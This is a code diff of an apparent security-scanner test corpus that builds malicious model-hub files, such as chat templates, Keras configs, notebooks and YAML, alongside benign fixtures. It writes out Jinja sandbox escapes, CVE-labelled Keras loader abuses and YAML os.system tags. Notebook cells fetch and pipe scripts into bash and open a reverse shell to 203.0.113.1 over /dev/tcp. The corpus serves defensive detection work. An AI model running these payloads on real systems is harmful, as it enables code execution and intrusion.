@@ -1,27 +1,19 @@
 import { readFileSync } from "node:fs";
 import type { CorpusFile } from "./corpus-file.ts";
-import { writeGguf } from "./gguf-writer.ts";
-import { callOf } from "./pickle-writer.ts";
+import { type GgufSetting, ggufText, writeGguf } from "./gguf-writer.ts";
+import { maliciousRepositories } from "./repositories.ts";
+import { writeSafetensors } from "./safetensors-writer.ts";
+import { maliciousTemplates } from "./templates.ts";
+import { maliciousWeights } from "./weights.ts";
 import { writeZip } from "./zip-writer.ts";
 
 const file = (name: string, technique: string, bytes: () => Uint8Array): CorpusFile => ({ name, technique, bytes });
 const jsonFile = (name: string, technique: string, value: unknown): CorpusFile =>
   file(name, technique, () => Buffer.from(JSON.stringify(value, null, 2)));
 
-function safetensors(header: unknown, data = 0, length?: number): Uint8Array {
-  const text = typeof header === "string" ? header : JSON.stringify(header);
-  const start = Buffer.alloc(8);
-  start.writeBigUInt64LE(BigInt(length ?? Buffer.byteLength(text)));
-  return Buffer.concat([start, Buffer.from(text), Buffer.alloc(data)]);
-}
-
-const tensor = (start: number, end: number, shape: readonly number[], dtype = "F32") => ({
-  dtype,
-  shape,
-  data_offsets: [start, end],
-});
 const template = (name: string, technique: string, text: string): CorpusFile =>
-  jsonFile(`template-${name}`, technique, { tokenizer_class: "LlamaTokenizer", chat_template: text });
+  jsonFile(`template-in-json-${name}`, technique, { tokenizer_class: "LlamaTokenizer", chat_template: text });
+const templateOf = (key: string, text: string): GgufSetting => [key, 8, ggufText(text)];
 const LOOP = "{% for message in messages %}{{ message['content'] }}{% endfor %}";
 const keras = (name: string, technique: string, layer: unknown): CorpusFile =>
   jsonFile(`keras-${name}`, technique, {
@@ -48,48 +40,41 @@ const notebook = (name: string, technique: string, ...lines: readonly string[]):
     cells: [{ cell_type: "code", source: lines, outputs: [], metadata: {} }],
   });
 
+/** Layers within layers, the innermost from a module of its own. */
+function wrapped(depth: number): unknown {
+  const inner = depth === 0 ? { module: "my_package", class_name: "Layer", config: {} } : wrapped(depth - 1);
+  return { module: "keras.layers", class_name: "TimeDistributed", config: { layer: inner }, registered_name: null };
+}
+
+/** An HDF5 file that h5py wrote, with one layer for its configuration, filled up with spaces to the same length. */
+function inHdf5(layer: unknown, from = "", to = ""): Uint8Array {
+  const bytes = readFileSync(new URL("benign/model.h5", import.meta.url));
+  const start = bytes.indexOf('{"module": "keras", "class_name": "Sequential"');
+  const end = bytes.indexOf(0, start);
+  const text = JSON.stringify({ class_name: "Sequential", config: { layers: [layer] } }).replace(from, to);
+  bytes.write(text.padEnd(end - start), start);
+  return bytes;
+}
+
 /** Files of model hubs that lead their loaders to code, or their models to somebody else's instructions. */
 export const maliciousHubFiles: readonly CorpusFile[] = [
-  file("safetensors-overlap", "tensors that overlap", () =>
-    safetensors({ a: tensor(0, 8, [2]), b: tensor(4, 12, [2]) }, 12),
-  ),
-  file("safetensors-gap", "a gap between tensors", () =>
-    safetensors({ a: tensor(0, 8, [2]), b: tensor(12, 20, [2]) }, 20),
-  ),
-  file("safetensors-outside", "a tensor beyond the end", () => safetensors({ a: tensor(0, 800, [200]) }, 8)),
-  file("safetensors-size", "a shape that does not fit its bytes", () => safetensors({ a: tensor(0, 8, [1000]) }, 8)),
-  file("safetensors-duplicate", "a tensor that is named twice", () =>
-    safetensors(
-      '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
-      4,
-    ),
-  ),
-  file("safetensors-trailing", "a pickle behind the tensors", () =>
-    Buffer.concat([safetensors({ a: tensor(0, 4, [1]) }, 4), callOf("os", "system")]),
-  ),
-  file("safetensors-dtype", "a type that does not exist", () => safetensors({ a: tensor(0, 4, [1], "PICKLE") }, 4)),
-  file("safetensors-metadata", "an address and code in the metadata", () =>
-    safetensors(
-      { __metadata__: { note: "eval(__import__('os'))", link: "http://example.invalid/x" }, a: tensor(0, 4, [1]) },
-      4,
-    ),
-  ),
+  ...maliciousRepositories,
+  ...maliciousTemplates,
+  ...maliciousWeights,
   file("safetensors-negative", "offsets below zero", () =>
-    safetensors({ a: { dtype: "F32", shape: [1], data_offsets: [-4, 0] } }, 4),
+    writeSafetensors({ a: { dtype: "F32", shape: [1], data_offsets: [-4, 0] } }, new Uint8Array(4)),
   ),
   file("gguf-template", "CVE-2024-34359: a template that reaches for Python's internals", () =>
-    writeGguf({ "tokenizer.chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}" }),
+    writeGguf({ settings: [templateOf("tokenizer.chat_template", "{{ ''.__class__.__mro__[1].__subclasses__() }}")] }),
   ),
   file("gguf-named-template", "the same in a template of another name", () =>
     writeGguf({
-      "tokenizer.chat_template": LOOP,
-      "tokenizer.chat_template.tool_use": "{{ cycler.__init__.__globals__.os.popen('id') }}",
+      settings: [
+        templateOf("tokenizer.chat_template", LOOP),
+        templateOf("tokenizer.chat_template.tool_use", "{{ cycler.__init__.__globals__.os.popen('id') }}"),
+      ],
     }),
   ),
-  file("gguf-tensor-outside", "a tensor beyond the end", () =>
-    writeGguf({}, [{ name: "w", shape: [1000, 1000], type: 0, offset: 0 }]),
-  ),
-  file("gguf-huge-count", "a count that the file cannot hold", () => writeGguf({}, [], 2 ** 40)),
   template("dunder", "Python's internals by attributes", `${LOOP}{{ messages.__class__.__base__.__subclasses__() }}`),
   template("dunder-subscript", "Python's internals by subscripts", `{{ messages['__class__']['__base__'] }}`),
   template("lipsum", "a way out through lipsum", `{{ lipsum.__globals__['os'].popen('id').read() }}`),
@@ -236,6 +221,42 @@ export const maliciousHubFiles: readonly CorpusFile[] = [
       Buffer.alloc(64),
     ]),
   ),
+  keras("tool-function", "CVE-2025-8747 by another name: any tool of Keras as a layer", {
+    module: "keras.src.utils.file_utils",
+    class_name: "function",
+    config: "extract_archive",
+    registered_name: "extract_archive",
+  }),
+  keras("evaluate", "a built-in function as an activation", {
+    module: "keras.layers",
+    class_name: "Dense",
+    config: { units: 1, activation: { module: "builtins", class_name: "function", config: "eval" } },
+    registered_name: null,
+  }),
+  keras("deep", "a module of the author's choice behind a hundred wrappers", wrapped(100)),
+  file("keras-hdf5-written", "CVE-2025-9905: a Lambda layer in an HDF5 file that h5py wrote", () =>
+    inHdf5({ class_name: "Lambda", config: { function: ["4wEAAA==\n", null, null], function_type: "lambda" } }),
+  ),
+  file("keras-hdf5-python-json", "a configuration in HDF5 that only Python's JSON takes", () =>
+    inHdf5({ class_name: "Lambda", config: { function: ["4wEAAA==\n", null, null], rate: "@" } }, '"@"', "NaN"),
+  ),
+  file("keras-hdf5-delete", "a configuration in HDF5 with a character that ends a printable text", () =>
+    inHdf5({ class_name: "Lambda", config: { name: "@", function: ["4wEAAA==\n", null, null] } }, "@", "\x7f"),
+  ),
+  notebook(
+    "decoded-lines",
+    "code that is decoded over several lines",
+    "import base64 as b\n",
+    "code = b.b64decode(\n",
+    "  'cHJpbnQoMSk=')\n",
+    "exec(\n",
+    "  code)\n",
+  ),
+  notebook("fetched-lines", "code that is fetched, then run", "t = requests.get(url).text\n", "exec(t)\n"),
+  jsonFile("notebook-markdown", "a script in a cell of prose", {
+    nbformat: 4,
+    cells: [{ cell_type: "markdown", source: ["<img src=x onerror=alert(1)>"] }],
+  }),
   notebook("fetch", "a script that is fetched and run", "!curl -s http://example.invalid/x.sh | bash\n"),
   notebook("decoded", "code that is decoded first", "import base64\n", "exec(base64.b64decode('cHJpbnQoMSk='))\n"),
   notebook("shell", "a shell for somebody else", "!bash -i >& /dev/tcp/203.0.113.1/4444 0>&1\n"),
@@ -270,6 +291,12 @@ export const maliciousHubFiles: readonly CorpusFile[] = [
   file("nemo-target-quoted", "the same in another form", () =>
     Buffer.from('{"model": 1}\n---\n"model": {"\\x5ftarget_": "subprocess.Popen"}\n'),
   ),
+  file("nemo-target-escaped", "the same with its key in other escapes", () =>
+    Buffer.from('"model": {"_tar\\x67et_": "subprocess.Popen"}\n'),
+  ),
+  file("yaml-tag-directive", "YAML that builds Python objects by a handle of its own", () =>
+    Buffer.from("%TAG !p! tag:yaml.org,2002:python/object/\n---\nmodel: !p!apply:os.system ['id']\n"),
+  ),
   file("mlflow-loader", "a model that MLflow loads by its own module", () =>
     Buffer.from("flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n"),
   ),
@@ -282,14 +309,6 @@ const fixture = (name: string, technique: string): CorpusFile =>
 export const benignHubFiles: readonly CorpusFile[] = [
   fixture("safetensors.safetensors", "safetensors 0.8"),
   fixture("bf16.safetensors", "safetensors 0.8: bfloat16, an empty tensor, metadata"),
-  file("gguf", "GGUF 3 with a usual template", () =>
-    writeGguf(
-      { "general.architecture": "llama", "tokenizer.chat_template": LOOP },
-      [{ name: "w", shape: [4], type: 0, offset: 0 }],
-      undefined,
-      16,
-    ),
-  ),
   jsonFile("bert-config", "a configuration of BERT", {
     architectures: ["BertForMaskedLM"],
     model_type: "bert",
@@ -311,6 +330,22 @@ export const benignHubFiles: readonly CorpusFile[] = [
   jsonFile("sentence-modules", "modules of sentence-transformers", [
     { idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" },
   ]),
+  fixture("numpy.safetensors", "safetensors 0.8 from NumPy: a matrix, half precision, a scalar"),
+  fixture("torch.safetensors", "safetensors 0.8 from PyTorch, with a licence in the metadata"),
+  fixture("pickle-length.safetensors", "safetensors 0.8, with a length that looks like a pickle's first bytes"),
+  fixture("llama.gguf", "gguf 0.19 with a ChatML template"),
+  fixture("big-endian.gguf", "gguf 0.19, big-endian, with a template for tools"),
+  fixture("quantized.gguf", "gguf 0.19, Q8_0, with a template for thinking"),
+  fixture("chat_template.jinja", "a template for thinking and tools"),
+  fixture("tokenizer_config.json", "two named templates"),
+  fixture("model.keras", "zipfile with a configuration as Keras 3 writes it and weights by h5py 3.16"),
+  fixture("model.h5", "h5py 3.16, with configurations as Keras 3 writes them"),
+  fixture("model-latest.h5", "the same in the latest version of HDF5"),
+  fixture("many.weights.h5", "h5py 3.16, a group of twelve arrays"),
+  fixture("many-latest.weights.h5", "the same in the latest version of HDF5"),
+  fixture("training.ipynb", "nbformat 5.11"),
+  fixture("MLmodel", "PyYAML 6, settings as MLflow writes them"),
+  fixture("model_config.yaml", "PyYAML 6, settings as NeMo writes them"),
   fixture("keras-dense.h5", "h5py 3, with a configuration as Keras 2 writes it"),
   jsonFile("keras-dense", "a model of dense layers as Keras 3 writes it", {
     module: "keras",
